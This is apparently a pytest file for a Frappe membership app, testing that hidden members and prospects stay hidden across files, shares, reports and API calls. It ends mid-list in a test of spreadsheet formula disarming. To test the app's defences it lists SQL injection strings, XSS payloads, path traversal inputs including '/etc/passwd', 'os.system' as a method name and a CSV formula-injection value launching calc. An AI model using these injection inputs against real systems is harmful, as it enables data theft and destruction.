"""The wall from inside: row rules of what hangs on a person, shares and follows, hostile names, filters and cells.

tests/browser/test_wall.py asks the same over HTTP, by every way there is.
"""

import csv
import io
import json
from urllib.parse import quote

import frappe
import openpyxl
import pytest
from frappe.utils import now_datetime

from membership_recruitment.member_privacy.wall import (
	document_events,
	files,
	formulas,
	replaced_downloads,
	replaced_methods,
	row_rules,
)
from membership_recruitment.member_privacy.wall import tables as wall_tables
from membership_recruitment.membership.register import bulk
from tests.support.door import knock

METHOD = "/api/method/"
SAVE = f"{METHOD}frappe.desk.form.save.savedocs"
INVISIBLE = "\u200b\u200c\u200d\u202e\u2066\u00ad\ufeff\u061c\U000e0041\x00\x07"
SQL = (
	"name); drop table `tabMember`; --",
	"(select password from __Auth limit 1)",
	"sleep(5)",
	"name union select email from tabMember",
	"1=1 or name",
	"`tabMember`.`email`",
	"ifnull((select full_name from tabMember limit 1), name)",
	"extractvalue(1, concat(0x7e, (select email from tabMember limit 1)))",
)


@pytest.fixture
def people(make):
	"""A member, and two recruiters' prospects with all that Frappe lets people hang on them."""
	mine, other = make.user("Member Recruiter"), make.user("Member Recruiter")
	return frappe._dict(
		mine=mine,
		other=other,
		own=make.prospect("Own", recruiter=mine, email="own@example.com"),
		theirs=make.prospect("Theirs", recruiter=other, email="theirs@example.com"),
		member=make.member("Kanarie", "Fågelsson", email="kanarie@example.com"),
	)


def hang(doctype: str, about, owner: str):
	"""A row of one of the tables in tables.ABOUT, written as its owner."""
	of, name = wall_tables.ABOUT.get(doctype, (("", ""),))[0]
	if doctype == "Event":  # by its participants; its own pair is Frappe 16's (test_frappe_16.py)
		of = name = ""
	values = {
		"Comment": {"comment_type": "Comment", "content": "x"},
		"Communication": {
			"communication_type": "Communication",
			"communication_medium": "Phone",
			"subject": "x",
		},
		"File": {
			"file_name": f"{frappe.generate_hash(length=6)}.txt",
			"content": frappe.generate_hash(),
			"is_private": 1,
		},
		"Notification Log": {"for_user": owner, "type": "Alert", "subject": "x"},
		"Reminder": {
			"user": owner,
			"remind_at": frappe.utils.add_days(now_datetime(), 1),
			"description": "x",
		},
		"Tag Link": {"tag": "x", "title": "x"},
		"ToDo": {"description": "x", "allocated_to": owner, "assigned_by": owner},
		"Event": {
			"subject": "x",
			"starts_on": now_datetime(),
			"event_participants": [{"reference_doctype": about.doctype, "reference_docname": about.name}],
		},
	}[doctype]
	if doctype == "Tag Link" and not frappe.db.exists("Tag", "x"):
		frappe.get_doc({"doctype": "Tag", "name": "x"}).insert()
	if of:
		values |= {of: about.doctype, name: about.name}
	doc = frappe.get_doc({"doctype": doctype, **values}).insert(ignore_permissions=True)
	# as left from when the owner saw the person: a notice that comes later is blanked
	doc.db_set(
		{"owner": owner, **({of: about.doctype, name: about.name} if of else {})}, update_modified=False
	)
	return doc


@pytest.mark.parametrize(
	"doctype", ["Communication", "File", "Notification Log", "Reminder", "Tag Link", "ToDo", "Event"]
)
def test_what_hangs_on_a_hidden_person_is_hidden_from_its_owner_too(people, doctype):
	rows = {key: hang(doctype, people[key], people.mine) for key in ("own", "theirs", "member")}
	frappe.set_user(people.mine)
	listed = set(frappe.get_list(doctype, pluck="name", limit=0))
	assert {key for key, row in rows.items() if row.name in listed} == {"own"}
	assert {key for key, row in rows.items() if frappe.get_doc(doctype, row.name).has_permission("read")} == {
		"own"
	}


@pytest.mark.parametrize("doctype", ["ToDo", "Reminder", "File"])
def test_nothing_can_be_hung_on_a_hidden_person(people, doctype):
	of, name = wall_tables.ABOUT[doctype][0]
	frappe.set_user(people.mine)
	for about in (people.theirs, people.member):
		values = {
			of: about.doctype,
			name: about.name,
			"description": "x",
			"file_name": "x.txt",
			"content": "x",
		}
		with pytest.raises(frappe.PermissionError):
			frappe.get_doc({"doctype": doctype, **values}).insert()


def test_rows_without_a_person_stay_as_they_were(people):
	frappe.set_user(people.mine)
	task = frappe.get_doc(
		{"doctype": "ToDo", "description": "buy coffee", "allocated_to": people.mine}
	).insert()
	assert task.name in frappe.get_list("ToDo", pluck="name", limit=0)
	assert task.has_permission("write")
	frappe.set_user(people.other)
	assert not frappe.get_doc("ToDo", task.name).has_permission("read"), "Frappe's own rule still holds"


def test_a_share_does_not_open_what_the_role_keeps_closed(people, make):
	manager = make.user("Membership Manager")
	frappe.set_user(manager)
	for doc in (people.member, people.theirs):
		for values in ({"user": people.mine}, {"everyone": 1}):
			with pytest.raises(frappe.PermissionError, match="cannot be shared"):
				frappe.share.add(doc.doctype, doc.name, **values)
	frappe.share.add("Membership Prospect", people.own.name, people.mine)
	frappe.share.add("Member", people.member.name, make.user("Member Registrar"))


def test_one_share_made_by_force_does_not_open_contacts(people):
	"""frappe.has_permission(DocType) is true as soon as one document is shared; the rules ask the roles."""
	frappe.get_doc(
		{
			"doctype": "DocShare",
			"user": people.mine,
			"share_doctype": "Member",
			"share_name": people.member.name,
			"read": 1,
		}
	).db_insert()
	assert frappe.has_permission("Member", "read", user=people.mine)
	assert not row_rules.may_see_members(people.mine)


def test_assigning_to_somebody_who_may_not_see_is_refused_with_a_sentence(people, make):
	frappe.set_user(make.user("Membership Manager"))
	with pytest.raises(frappe.PermissionError, match="Hand it over"):
		frappe.desk.form.assign_to.add(
			{"doctype": "Member", "name": people.member.name, "assign_to": [people.mine], "description": "x"}
		)


def test_nobody_follows_what_she_may_not_see(people):
	frappe.db.set_value("User", people.mine, "document_follow_notify", 1)
	frappe.set_user(people.mine)
	from frappe.desk.form.document_follow import follow_document

	for doc in (people.member, people.theirs):
		with pytest.raises(frappe.PermissionError):
			follow_document(doc.doctype, doc.name, people.mine)
	assert follow_document("Membership Prospect", people.own.name, people.mine)


@pytest.mark.parametrize(("role", "told"), [("Member Recruiter", False), ("Membership Manager", True)])
def test_a_mention_tells_nothing_of_somebody_hidden(people, make, role, told):
	"""Neither in the notice nor in the mail that Frappe makes of it."""
	from frappe.desk.doctype.notification_log import notification_log

	reader = make.user(role)
	mention = {
		"type": "Mention",
		"document_type": "Member",
		"document_name": people.member.name,
		"subject": "Registrar mentioned you in a comment on Fågelsson",
		"email_content": "Fågelsson moved",
		"from_user": make.user("Member Registrar"),
	}
	notification_log.make_notification_logs(frappe._dict(mention), [reader])  # the job that a comment starts
	notices = frappe.get_all("Notification Log", filters={"for_user": reader}, fields=["*"])
	assert len(notices) == 1
	assert ("Fågelsson" in str(notices)) == told
	assert (people.member.name in str(notices)) == told
	assert notices[0].type == ("Mention" if told else "Alert"), "Frappe mails all but alerts"


def test_after_conversion_nobody_reads_a_merge_of_the_prospect(people, make):
	"""Neither of those that went into it, nor one that was undone."""
	from membership_recruitment.member_recruitment.conversion import handover, merge

	before = set(frappe.get_all("Prospect Merge", pluck="name"))
	prospect = people.own.doctype
	second, third, other = (make.prospect(last_name=name) for name in ("Second", "Third", "Other"))
	merge.join(prospect, second.name, third.name)
	merge.join(prospect, people.own.name, second.name)
	undone = merge.join(prospect, other.name, people.own.name)
	merge.undo(frappe.get_doc("Prospect Merge", undone))
	kept = merge.join(prospect, make.prospect(last_name="Kept").name, make.prospect(last_name="Gone").name)
	assert frappe.db.count("Prospect Merge") == len(before) + 4
	frappe.set_user(people.mine)
	frappe.get_doc(prospect, people.own.name).make_member("Individual", "2026-03-01")
	handover.decide(people.own.name)
	assert set(frappe.get_all("Prospect Merge", pluck="name")) == {*before, kept}


def test_the_record_of_a_merge_is_hidden_with_either_prospect(people, make):
	from membership_recruitment.member_recruitment.conversion import merge

	manager = make.user("Recruitment Manager")
	other = make.prospect(last_name="Other")
	record = frappe.get_doc("Prospect Merge", merge.join(people.own.doctype, people.own.name, other.name))

	def seen() -> bool:
		listed = frappe.get_list("Prospect Merge", filters={"name": record.name}, user=manager)
		assert bool(listed) == record.has_permission("read", user=manager)
		return bool(listed)

	def mark(prospect, values: dict) -> None:
		frappe.db.set_value(prospect.doctype, prospect.name, values, update_modified=False)

	assert seen()
	queued = {"status": "Queued", "queued_on": now_datetime()}
	mark(people.own, queued)
	assert not seen()
	mark(people.own, {"status": "Open", "queued_on": None})
	merge.undo(record)
	assert seen()
	mark(other, queued)
	assert not seen()


def test_whose_import_it_was_sees_its_file_and_no_colleague(people, make):
	managers = {name: make.user("Recruitment Manager") for name in ("first", "second")}
	for owner in managers.values():
		row = frappe.get_doc(
			{
				"doctype": "Data Import",
				"reference_doctype": "Membership Prospect",
				"import_type": "Insert New Records",
			}
		).insert()
		about = {"attached_to_doctype": row.doctype, "attached_to_name": row.name}
		file = frappe.get_doc(
			{"doctype": "File", "file_name": f"{owner}.csv", "content": owner, "is_private": 1, **about}
		).insert()
		for doc in (row, file):
			doc.db_set("owner", owner)
	frappe.set_user(managers["first"])
	assert frappe.get_list(
		"Data Import", filters={"owner": ["in", list(managers.values())]}, pluck="owner"
	) == [managers["first"]]
	listed = frappe.get_list("File", filters={"attached_to_doctype": "Data Import"}, pluck="owner", limit=0)
	assert set(listed) == {managers["first"]}
	assert not row.has_permission("read", user=managers["first"])
	with pytest.raises(frappe.PermissionError):
		knock(f"{METHOD}run_doc_method", method="start_import", dt="Data Import", dn=row.name)


@pytest.mark.parametrize("registrar_converts", [0, 1])
def test_who_read_a_prospect_in_reads_the_file_no_more_once_it_is_handed_over(
	people, make, registrar_converts
):
	make.settings(registrar_converts=registrar_converts)
	manager = make.user("Recruitment Manager")
	row = frappe.get_doc(
		{
			"doctype": "Data Import",
			"reference_doctype": "Membership Prospect",
			"import_type": "Insert New Records",
		}
	).insert()
	about = {"attached_to_doctype": row.doctype, "attached_to_name": row.name}
	file = frappe.get_doc(
		{"doctype": "File", "file_name": "own.csv", "content": "Own", "is_private": 1, **about}
	).insert()
	for doc in (row, file):
		doc.db_set("owner", manager)
	frappe.get_doc(
		{"doctype": "Data Import Log", "data_import": row.name, "docname": people.own.name, "success": 1}
	).insert()
	assert file.has_permission("read", user=manager)
	frappe.set_user(people.mine)
	frappe.get_doc("Membership Prospect", people.own.name).make_member("Individual", "2026-03-01")
	frappe.set_user(manager)
	for doc in (row, file):
		assert not frappe.get_doc(doc.doctype, doc.name).has_permission("read")
	assert not frappe.get_all("Data Import Log", filters={"data_import": row.name})


def test_who_loses_a_prospect_stops_following_it(people):
	frappe.db.set_value("User", people.mine, "document_follow_notify", 1)
	frappe.get_doc(
		{
			"doctype": "Document Follow",
			"ref_doctype": people.own.doctype,
			"ref_docname": people.own.name,
			"user": people.mine,
		}
	).insert()
	prospect = frappe.get_doc("Membership Prospect", people.own.name)
	prospect.notes = "still mine"
	prospect.save()
	assert frappe.db.exists("Document Follow", {"ref_docname": people.own.name})
	prospect.recruiter = people.other
	prospect.save()
	assert not frappe.db.exists("Document Follow", {"ref_docname": people.own.name})


def test_reports_are_not_made_for_those_who_may_not_run_them(people):
	frappe.set_user(people.mine)
	for values in (
		{"doctype": "Prepared Report", "report_name": "Sales Register"},
		{
			"doctype": "Auto Email Report",
			"report": "Sales Register",
			"user": people.mine,
			"email_to": "x@example.com",
		},
	):
		with pytest.raises(frappe.PermissionError):
			frappe.get_doc({"filters": "{}", "format": "CSV", "frequency": "Daily", **values}).insert(
				ignore_permissions=True
			)


SECRET = "max((select name from tabMember A limit 1))"


@pytest.mark.parametrize(
	"settings",
	[
		{"fields": [[SECRET, "ToDo"]]},
		{"columns": [[SECRET, "ToDo"]]},
		{"fields": [["name", "ToDo"]], "order_by": SECRET},
		{"fields": [["name", "ToDo"]], "filters": [["ToDo", SECRET, "=", "1"]]},
		{"group_by": {"group_by": "status", "aggregate_function": "sum", "aggregate_on": SECRET}},
		{"group_by": {"group_by": SECRET, "aggregate_function": "count"}},
		{"group_by": {"group_by": "status", "aggregate_function": "max((select name from tabMember A)) +"}},
	],
)
def test_made_reports_hold_columns_only(people, settings):
	"""Stored, and stored earlier and now to be sent by a schedule, which asks nobody when it runs."""
	frappe.set_user(people.mine)
	report = frappe.get_doc(
		{
			"doctype": "Report",
			"report_name": frappe.generate_hash(),
			"ref_doctype": "ToDo",
			"is_standard": "No",
		}
	)
	report.update({"report_type": "Report Builder", "json": frappe.as_json(settings)})
	with pytest.raises(frappe.PermissionError, match="Only columns"):
		report.insert(ignore_permissions=True)

	report.json = "{}"
	report.insert(ignore_permissions=True)
	frappe.db.set_value("Report", report.name, "json", frappe.as_json(settings))
	with pytest.raises(frappe.PermissionError, match="Only columns"):
		mailed_report(report, people.mine).insert(ignore_permissions=True)


def test_a_report_as_the_desk_makes_it_is_sent(people):
	frappe.set_user(people.mine)
	report = frappe.get_doc(
		{
			"doctype": "Report",
			"report_name": frappe.generate_hash(),
			"ref_doctype": "Membership Prospect",
			"is_standard": "No",
			"report_type": "Report Builder",
			"json": frappe.as_json(
				{
					"fields": [
						["status", "Membership Prospect"],
						["_aggregate_column", "Membership Prospect"],
					],
					"filters": [["Membership Prospect", "status", "=", "Open", False]],
					"order_by": "`tabMembership Prospect`.`modified` desc",
					"group_by": {
						"group_by": "`tabMembership Prospect`.`status`",
						"aggregate_function": "sum",
						"aggregate_on": "`tabMembership Prospect`.`idx`",
					},
				}
			),
		}
	).insert(ignore_permissions=True)
	mail = mailed_report(report, people.mine).insert(ignore_permissions=True)
	assert "open" in mail.get_report_content().lower()

	mail.filters = frappe.as_json({SECRET: 1})
	with pytest.raises(frappe.PermissionError, match="Only columns"):
		mail.save(ignore_permissions=True)


def mailed_report(report, user: str):
	values = {
		"user": user,
		"email_to": "x@example.com",
		"filters": "{}",
		"format": "CSV",
		"frequency": "Daily",
	}
	return frappe.get_doc({"doctype": "Auto Email Report", "report": report.name, **values})


def test_files_about_people_are_private(people):
	frappe.set_user(people.mine)
	about = {"attached_to_doctype": people.own.doctype, "attached_to_name": people.own.name}
	with pytest.raises(frappe.ValidationError, match="Tick Private"):
		frappe.get_doc(
			{"doctype": "File", "file_name": "open.txt", "content": "x", "is_private": 0, **about}
		).insert()


def test_a_file_of_a_hidden_person_is_not_made_ones_own(people):
	"""By a row that names the file on disk; a second row of somebody else's does not open it either."""
	content = frappe.generate_hash()
	secret = frappe.get_doc(
		{
			"doctype": "File",
			"file_name": f"{content}.txt",
			"content": content,
			"is_private": 1,
			"attached_to_doctype": "Member",
			"attached_to_name": people.member.name,
		}
	).insert()
	frappe.get_doc(
		{"doctype": "File", "file_name": "again", "file_url": secret.file_url, "is_private": 1}
	).insert()
	frappe.set_user(people.mine)
	with pytest.raises(frappe.PermissionError):
		frappe.get_doc(
			{"doctype": "File", "file_name": secret.file_url.rpartition("/")[2], "is_private": 1}
		).insert()
	mine = frappe.get_doc(
		{"doctype": "File", "file_name": "mine.txt", "content": "mine", "is_private": 1}
	).insert()
	mine.file_url = secret.file_url
	with pytest.raises(frappe.PermissionError):
		mine.save()
	with pytest.raises(frappe.PermissionError):
		knock(SAVE, doc=json.dumps({"doctype": "File", "file_url": f"http://here{secret.file_url}"}))
	knock(
		SAVE,
		doc=json.dumps({"doctype": "File", "file_url": frappe.db.get_value("File", mine.name, "file_url")}),
	)


@pytest.mark.parametrize(
	"who", ("Member Recruiter", "Recruitment Manager", "Membership Analyst", "website", "Guest")
)
def test_a_hidden_file_is_answered_like_one_that_does_not_exist(people, make, who):
	secret = frappe.get_doc(
		{
			"doctype": "File",
			"file_name": f"{frappe.generate_hash()} of hers.txt",
			"content": "x",
			"is_private": 1,
			"attached_to_doctype": "Member",
			"attached_to_name": people.member.name,
		}
	).insert()
	user = "Guest" if who == "Guest" else make.user(*([who] if who != "website" else []))
	if who == "website":
		frappe.db.set_value("User", user, "user_type", "Website User")
		frappe.clear_document_cache("User", user)
	frappe.set_user(user)
	answers = set()
	for url in (secret.file_url, "/private/files/no such file.txt"):
		for ask in (
			lambda u=url: knock(u),
			lambda u=url: knock(quote(u)),
			lambda u=url: knock("/api/method/frappe.handler.download_file", file_url=u),
			lambda u=url: knock("/api/method/upload_file", file_url=u, is_private="1"),
			lambda u=url: knock("/api/method/upload_file", file_url=f"http://here{u}", is_private="1"),
			lambda u=url: knock(SAVE, doc=json.dumps({"doctype": "File", "file_url": u})),
			lambda u=url: knock(SAVE, doc=json.dumps({"doctype": "ToDo", "description": "x", "picture": u})),
			lambda u=url: document_events.check_file(
				frappe.get_doc({"doctype": "File", "file_name": u.rpartition("/")[2], "is_private": 1})
			),
			lambda u=url: document_events.check_file(
				frappe.get_doc({"doctype": "File", "file_url": u, "is_private": 1})
			),
		):
			with pytest.raises(frappe.PermissionError) as refusal:
				ask()
			answers.add(str(refusal.value))
	assert len(answers) == 1
	if who not in ("website", "Guest"):
		# words in which an address stands tell nothing, whether there is such a file
		for url in (secret.file_url, "/private/files/no such file.txt"):
			knock(SAVE, doc=json.dumps({"doctype": "ToDo", "description": f"see <a href='{url}'>this</a>"}))


@pytest.mark.parametrize(
	("written", "path"),
	[
		("/private/files/x.txt", "/private/files/x.txt"),
		("/private/files/./x.txt", "/private/files/x.txt"),
		("/private/files/a/../x.txt", "/private/files/x.txt"),
		("/private/files/%78.txt", "/private/files/x.txt"),
		("/private/files/%2578.txt", "/private/files/x.txt"),
		("http://site/private/files/x.txt", "/private/files/x.txt"),
		("x.txt", "/private/files/x.txt"),
		("/files/x.txt", ""),
		(None, ""),
	],
)
def test_a_file_is_known_however_its_address_is_written(written, path):
	assert files.file_on_disk(written) == path


# ---------------------------------------------------------------- the door


def test_scripts_hidden_in_valid_json_are_taken_out(people, make):
	"""Frappe's own cleaning passes over JSON, and shows such fields as HTML in lists, boxes and the timeline."""
	hostile = json.dumps({"valid": "<img src=x onerror='alert(1)'>"})
	people.own.update({"next_action": hostile, "notes": hostile, "address_line": hostile, "city": hostile})
	people.own.save()
	link = [{"link_doctype": "Member", "link_name": people.member.name}]
	contact = frappe.get_doc(
		{"doctype": "Contact", "first_name": "C", "designation": hostile, "links": link}
	).insert()
	comment = people.own.add_comment("Comment", hostile)
	bulk_made = bulk.add_members([bulk.NewMember("B", address=bulk.NewAddress(hostile, hostile, "1"))])
	address = frappe.get_doc("Address", make.linked("Address", bulk_made[0]))
	for text in (
		people.own.next_action,
		people.own.notes,
		people.own.city,
		contact.designation,
		comment.content,
		address.address_line1,
		address.city,
	):
		assert "valid" in text
		assert "onerror" not in text
	kept = json.dumps({"a": "1 < 2"})
	people.own.notes = kept
	people.own.save()
	assert "2" in people.own.notes


def test_a_recruitment_manager_imports_prospects_from_uploaded_files_only(make, as_role):
	make.source()
	secret = frappe.get_doc(
		{"doctype": "File", "file_name": "register.csv", "content": "First Name\nSecret", "is_private": 1}
	).insert()
	as_role("Recruitment Manager")
	for path in (
		secret.file_url,
		secret.get_full_path(),
		secret.get_full_path().replace("/private/", "/private//"),
		"/etc/passwd",
	):
		with pytest.raises(frappe.PermissionError):
			knock(SAVE, doc=json.dumps({"doctype": "Data Import", "import_file": path}))
		with pytest.raises(frappe.PermissionError):
			knock(
				f"{METHOD}run_doc_method",
				method="start_import",
				dt="Data Import",
				dn="x",
				args=json.dumps({"import_file": path}),
			)
	own = frappe.get_doc(
		{"doctype": "File", "file_name": "mine.csv", "content": "First Name\nMine", "is_private": 1}
	).insert()
	knock(SAVE, doc=json.dumps({"doctype": "Data Import", "import_file": own.file_url}))
	values = {"doctype": "Data Import", "import_type": "Insert New Records", "import_file": own.file_url}
	assert frappe.get_doc({**values, "reference_doctype": "Membership Prospect"}).insert().payload_count == 1
	for other in ("Member", "User"):
		with pytest.raises(frappe.PermissionError):
			frappe.get_doc({**values, "reference_doctype": other}).insert()


REFUSED = [
	{"doctype": "Member"},
	{"dt": "Membership", "dn": "TERM-1"},
	{"filters": json.dumps([["Member", "email", "like", "a%"]])},
	{"chart": json.dumps({"document_type": "Member", "type": "Heatmap"})},
	{"args": json.dumps({"doc": json.dumps({"doctype": "Member"})})},
	{"linkinfo": json.dumps({"Member": {"fieldname": ["payer"]}})},
	{"doctype": json.dumps({"Member": ["MEM-1"]})},
	{"fields": json.dumps(["`tabMember`.`email`"])},
	{"data": "(select email from tabMember limit 1)"},
	{"docs": json.dumps([{"doctype": "ToDo", "reference_type": "Member", "reference_name": "MEM-1"}])},
]


@pytest.mark.parametrize("form", REFUSED, ids=str)
def test_the_door_refuses_what_names_the_register(make, as_role, form):
	"""Whoever it is; recruiting staff, for whom most of these methods are closed altogether, and users without a role."""
	frappe.set_user(make.user())
	with pytest.raises(frappe.PermissionError):
		knock(f"{METHOD}other_app.api.anything", **form)
	as_role("Member Recruiter")
	with pytest.raises(frappe.PermissionError):
		knock(**form)
	as_role("Membership Manager")
	knock(f"{METHOD}other_app.api.anything", **form)


@pytest.mark.parametrize("role", ["Member Recruiter", "Membership Manager", "Accounts User"])
@pytest.mark.parametrize(
	"method", ["frappe.client.get_count", "frappe.client.get_list", "frappe.get_all", "os.system"]
)
def test_a_link_field_calls_nothing_but_queries(as_role, role, method):
	"""Their words are given by place: a list would take the text that was typed for its columns."""
	as_role(role)
	for search in ("search_link", "search_widget"):
		with pytest.raises(frappe.PermissionError):
			knock(
				f"{METHOD}frappe.desk.search.{search}",
				doctype="Journey Phase",
				txt="(select 1)",
				query=method,
			)
	query = "frappe.core.doctype.user.user.user_query"
	knock(f"{METHOD}frappe.desk.search.search_link", doctype="User", txt="", query=query)


@pytest.mark.parametrize("spelling", ["member", "Member ", "Mémber", "Ｍember", "Mem\u200bber", "MEMBER"])
@pytest.mark.parametrize("role", ["Member Recruiter", "Membership Manager", "Accounts User"])
def test_a_doctype_is_named_as_it_is_written(as_role, role, spelling):
	as_role(role)
	for form in ({"doctype": spelling}, {"filters": json.dumps({"name": "x"}), "doctype": spelling}):
		with pytest.raises(frappe.PermissionError):
			knock(**form)
	with pytest.raises(frappe.PermissionError):
		knock(f"/api/resource/{spelling}")


@pytest.mark.parametrize(
	"path", ["/api/resource/Member", "/api/v2/document/Member/MEM-1", "/api/v2/doctype/Member/count"]
)
def test_the_door_reads_the_path(as_role, path):
	as_role("Recruitment Manager")
	with pytest.raises(frappe.PermissionError):
		knock(path)


@pytest.mark.parametrize(
	("path", "form"),
	[
		("/api/method/frappe.website.doctype.web_form.web_form.accept", {"cmd": "frappe.client.get_count"}),
		("/api/method/frappe.client.get_count", {"cmd": "frappe.website.doctype.web_form.web_form.accept"}),
		("/", {"cmd": "frappe.client.get_count"}),
	],
)
def test_two_names_of_methods_do_not_open_the_door(as_role, path, form):
	as_role("Member Recruiter")
	with pytest.raises(frappe.PermissionError):
		knock(path, doctype="Member", **form)


PASSED = [
	("frappe.client.get_list", {"doctype": "Membership Type"}),
	(
		"frappe.client.get_list",
		{"fields": json.dumps(["`tabMembership Type`.`name`"]), "doctype": "Membership Type"},
	),
	(
		"frappe.client.validate_link",
		{"doctype": "Membership Prospect", "docname": "new-membership-prospect-1"},
	),
	("frappe.client.validate_link", {"doctype": "Recruitment Source", "docname": "Member"}),
	(
		"frappe.desk.reportview.get",
		{
			"doctype": "Membership Prospect",
			"filters": json.dumps([["Membership Prospect", "recruitment_source", "=", "Member"]]),
		},
	),
	("frappe.desk.search.search_link", {"txt": "Member", "doctype": "Recruitment Source"}),
	(
		"frappe.desk.form.save.savedocs",
		{
			"doc": json.dumps({"doctype": "Membership Prospect", "notes": "Member", "first_name": "Member"}),
			"action": "Save",
		},
	),
	("frappe.client.get_list", {"doctype": "Contact"}),
]


@pytest.mark.parametrize(("method", "form"), PASSED, ids=str)
def test_the_door_lets_work_through(as_role, method, form):
	as_role("Member Recruiter")
	knock(METHOD + method, **form)
	knock("/member")


def test_the_door_refuses_hidden_documents_and_filters_for_names(people):
	frappe.set_user(people.mine)
	get = f"{METHOD}frappe.client.get"
	knock(get, doctype="Membership Prospect", name=people.own.name)
	for name in (
		people.theirs.name,
		json.dumps([people.own.name, people.theirs.name]),
		{"email": ["like", "t%"]},
	):
		with pytest.raises(frappe.PermissionError):
			knock(get, doctype="Membership Prospect", name=name)
	with pytest.raises(frappe.PermissionError):
		knock(f"/api/resource/Membership Prospect/{people.theirs.name}")


def test_administrators_still_administer(make, as_role):
	as_role("System Manager")
	knock(doctype="Member")
	assert frappe.get_list("Version", limit=1) is not None
	with pytest.raises(frappe.PermissionError):
		frappe.get_list("Member")


def test_the_door_opens_fast(people):
	import time

	frappe.set_user(people.mine)
	form = {
		"doc": json.dumps({"doctype": "Membership Prospect", "name": people.own.name, "notes": "x" * 20000})
	}
	knock(SAVE, **form)
	frappe.local.request_cache.clear()
	start = time.perf_counter()
	for _round in range(20):
		knock(SAVE, **form)
	assert (time.perf_counter() - start) / 20 < 0.05


# ---------------------------------------------------------------- replaced methods


def test_counts_follow_the_list(people):
	frappe.set_user(people.mine)
	expected = len(frappe.get_list("Membership Prospect", limit=0))
	assert replaced_methods.get_count("Membership Prospect") == expected
	assert replaced_methods.get_count("Membership Prospect", {"email": "theirs@example.com"}) == 0
	assert (
		replaced_methods.get_count("Membership Prospect", json.dumps([["email", "=", "own@example.com"]]))
		== 1
	)
	assert replaced_methods.get_count("Journey Phase") == frappe.db.count("Journey Phase")


def test_search_ignores_nothing(people):
	frappe.set_user(people.mine)
	found = replaced_methods.search_link(
		"Membership Prospect", "", page_length=100, ignore_user_permissions=True
	)
	names = {row["value"] for row in found}
	assert people.own.name in names
	assert people.theirs.name not in names


def test_group_by_counts_only_what_is_seen(people):
	for prospect in (people.own, people.theirs):
		hang("ToDo", prospect, people.other)
	frappe.set_user(people.mine)
	both = json.dumps([["name", "in", [people.own.name, people.theirs.name]]])
	counted = replaced_methods.get_group_by_count("Membership Prospect", both, "assigned_to")
	assert [(row.name, row.count) for row in counted] == [(people.other, 1)]


def test_a_chart_that_others_filled_the_cache_of(people, make):
	frappe.db.set_value("Membership Prospect", people.theirs.name, "city", "Elsewhere")
	chart = frappe.get_doc(
		{
			"doctype": "Dashboard Chart",
			"chart_name": "Prospects",
			"chart_type": "Group By",
			"document_type": "Membership Prospect",
			"group_by_type": "Count",
			"group_by_based_on": "city",
			"filters_json": "[]",
			"type": "Bar",
		}
	).insert()
	frappe.set_user(make.user("Membership Manager"))
	assert "Elsewhere" in replaced_methods.get_chart(chart_name=chart.name, refresh=1)["labels"]
	frappe.set_user(people.mine)
	assert "Elsewhere" not in replaced_methods.get_chart(chart_name=chart.name)["labels"]
	impostor = {**chart.as_dict(), "document_type": "Journey Phase", "group_by_based_on": "people"}
	assert "Elsewhere" not in replaced_methods.get_chart(chart=frappe.as_json(impostor))["labels"]
	with pytest.raises(frappe.PermissionError, match="heatmap"):
		replaced_methods.get_chart(
			chart=json.dumps({"document_type": "Membership Prospect", "type": "Heatmap", "name": "x"})
		)


# ---------------------------------------------------------------- hostile input


@pytest.mark.parametrize("hostile", SQL)
def test_sql_in_fields_filters_and_order_is_refused(people, hostile):
	frappe.set_user(people.mine)
	before = frappe.db.count("Member")
	for values in (
		{"fields": [hostile]},
		{"order_by": hostile},
		{"group_by": hostile},
		{"filters": {hostile: "x"}},
		{"filters": [[hostile, "=", "x"]]},
		{"filters": [["Membership Prospect", hostile, "=", "x"]]},
		{"filters": [["name", hostile, "x"]]},
	):
		try:
			answer = frappe.client.get_list("Membership Prospect", **values)
		except (frappe.ValidationError, frappe.PermissionError, frappe.DataError, frappe.db.ProgrammingError):
			continue
		except (frappe.db.OperationalError, AttributeError, KeyError, ValueError, IndexError):
			continue
		assert "kanarie" not in str(answer).lower()
	assert frappe.db.count("Member") == before


@pytest.mark.parametrize("hostile", ["' or '1'='1", '") or 1=1 -- ', "%", "\\", "'; drop table x; --"])
def test_sql_in_values_is_only_a_value(people, hostile):
	frappe.set_user(people.mine)
	assert frappe.client.get_list("Membership Prospect", filters={"email": hostile}) == []
	assert frappe.client.get_list("Membership Prospect", filters=[["email", "in", [hostile]]]) == []
	assert replaced_methods.get_count("Membership Prospect", {"email": hostile}) == 0
	assert replaced_methods.search_link("Membership Prospect", f"nobody{hostile}") == []


def test_a_recruiters_name_does_not_break_out_of_the_rule(make):
	name = "o'neill\") or 1=1 -- @staff.example"
	frappe.get_doc(
		{
			"doctype": "User",
			"name": name,
			"email": name,
			"first_name": "x",
			"enabled": 1,
			"user_type": "System User",
			"roles": [{"role": "Member Recruiter"}],
		}
	).db_insert()
	row = frappe.get_doc(
		{
			"doctype": "Has Role",
			"parent": name,
			"parenttype": "User",
			"parentfield": "roles",
			"role": "Member Recruiter",
		}
	)
	row.db_insert()
	make.prospect("Theirs", recruiter=make.user("Member Recruiter"))
	frappe.set_user(name)
	assert all(
		not row.recruiter for row in frappe.get_list("Membership Prospect", fields=["recruiter"], limit=0)
	)


@pytest.mark.parametrize("person", ["member", "prospect"])
def test_names_that_look_alike_are_alike(make, person):
	doc = getattr(make, person)(f"A{INVISIBLE}nna  ", "A\u030angstro\u0308m\t\n")
	assert (doc.first_name, doc.last_name, doc.full_name) == ("Anna", "Ångström", "Anna Ångström")


@pytest.mark.parametrize("person", ["member", "prospect"])
@pytest.mark.parametrize(
	("values", "sentence"),
	[
		({"first_name": "x" * 1_000_000}, "at most 140 fit"),
		({"last_name": "å" * 141}, "at most 140 fit"),
		({"email": "a" * 1_000_000 + "@example.com"}, "at most 140 fit"),
		({"phone": "0" * 1_000_000}, "at most 140 fit"),
		({"first_name": "<img src=x onerror=alert(1)>"}, "cannot contain"),
		({"last_name": '{"a": "<script>alert(1)</script>"}'}, "cannot contain"),
	],
)
def test_names_too_long_or_with_markup_are_refused_with_a_sentence(make, person, values, sentence):
	with pytest.raises(frappe.ValidationError, match=sentence) as refused:
		getattr(make, person)(**{"first_name": "Anna", **values})
	assert len(str(refused.value)) < 200


@pytest.mark.parametrize(
	"harmless", ["", "Anna", "-5", "+46701234567", "-1,5", "+46 70 123 45 67", "12-34", "a=b", "Ö-son", "3/4"]
)
def test_harmless_cells_stay_as_they_are(harmless):
	assert formulas.disarm(harmless) == harmless


@pytest.mark.parametrize(
	"formula",
	[
		"=1+1",
		"+1+cmd|' /C calc'!A0",
